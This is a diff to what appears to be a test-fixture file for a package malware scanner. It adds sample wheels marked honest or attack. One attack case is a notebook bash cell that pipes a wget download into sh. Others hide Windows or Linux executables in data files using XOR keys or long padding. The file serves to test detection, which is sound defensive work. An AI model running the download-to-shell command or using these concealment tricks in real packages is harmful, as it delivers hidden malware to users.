@@ -326,3 +326,40 @@ def elf_in_xor_for_nobody(p):
 def compressed_numbers(p):
     """A plain zlib stream of numbers, and numbers that are noise."""
     return p.wheel(files={"{m}/a.dat": zlib.compress(struct.pack("<500d", *range(500))), "{m}/b.dat": noise(300000)})
+
+
+@honest
+def notebook_that_installs(p):
+    """A notebook whose cells install a package and fetch a table, as guides have them."""
+    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
+            "source": ["!pip install tables\n", "!curl -O https://data.example.org/rows.csv\n", "%%bash\n", "head rows.csv | sort\n"]}
+    book = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
+    return p.wheel(files={"{m}/start.ipynb": json.dumps(book).encode()})
+
+
+@attack
+def notebook_bash_cell(p):
+    """A cell of bash in one text, whose second line pipes a download into a shell. Must be held."""
+    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
+            "source": "%%bash\ncd /tmp\nwget -qO- https://cdn.example.net/i.sh | sh\n"}
+    book = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
+    return p.wheel(files={"{m}/start.ipynb": json.dumps(book).encode()})
+
+
+@attack
+def elf_in_long_key(p):
+    """A Linux program, changed by a key of seven bytes. Must be held."""
+    key = b"\x13\x9a\x42\xe7\x55\x08\xc1"
+    return p.wheel(files={"{m}/model.dat": bytes(b ^ key[i % 7] for i, b in enumerate(elf(noise(4000))))})
+
+
+@attack
+def pe_far_behind_data(p):
+    """A Windows program behind 200 KB of data. Must be held."""
+    return p.wheel(files={"{m}/model.dat": noise(200000) + pe(b"\x90" * 400)})
+
+
+@attack
+def pe_in_xor(p):
+    """A Windows program of which each byte was changed by one key. Must be held."""
+    return p.wheel(files={"{m}/model.dat": bytes(b ^ 0xa7 for b in pe(b"\x90" * 400))})
